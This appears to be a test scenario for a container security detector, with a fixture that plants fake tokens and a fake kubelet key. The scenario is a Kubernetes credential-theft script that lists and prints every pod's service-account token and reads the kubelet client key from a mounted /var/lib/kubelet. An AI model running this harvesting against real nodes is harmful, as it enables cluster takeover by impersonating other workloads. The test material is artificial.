# category: container-escape
# technique: T1528
# art: no
# developed: yes
# expect: sensitive-file-read credential-search cloud-credential-access
# opts: --bind ../../kubelet:/var/lib/kubelet
# layer: for p in pods/6b1f0c2e-0a7d-4c1e-9a51-3f0d2c8e7a10/volumes/kubernetes.io~projected/kube-api-access-h2x9q pods/9e3a7b44-51c2-4f7e-8d0b-c61a2f9e0b33/volumes/kubernetes.io~projected/kube-api-access-m8k2d; do mkdir -p ../../kubelet/$p && echo eyJhbGciOiJSUzI1NiJ9.exray-heldout.$(echo $p | cut -d/ -f2) >../../kubelet/$p/token && echo ca >../../kubelet/$p/ca.crt; done && mkdir -p ../../kubelet/pki && printf -- '-----BEGIN EC PRIVATE KEY-----\nexray-heldout\n-----END EC PRIVATE KEY-----\n' >../../kubelet/pki/kubelet-client-current.pem
# desc: a pod with the node's /var/lib/kubelet mounted (hostPath; here a scratch copy) collects the service account tokens of every other pod on the node from their projected volumes, and the kubelet's own client key, to act as them against the API server
# note: ../../ is the scenario's scratch directory on the host ($EXR_STATE of tests/lib/container.sh): layer commands run in $EXR_STATE/ov/layer, and runc resolves a relative bind source against the bundle, $EXR_STATE/bundles/NAME
find /var/lib/kubelet/pods -path '*kubernetes.io~projected*' -name token | while read -r t; do
	echo "== $t"
	cat "$t"
done
head -n 1 /var/lib/kubelet/pki/kubelet-client-current.pem
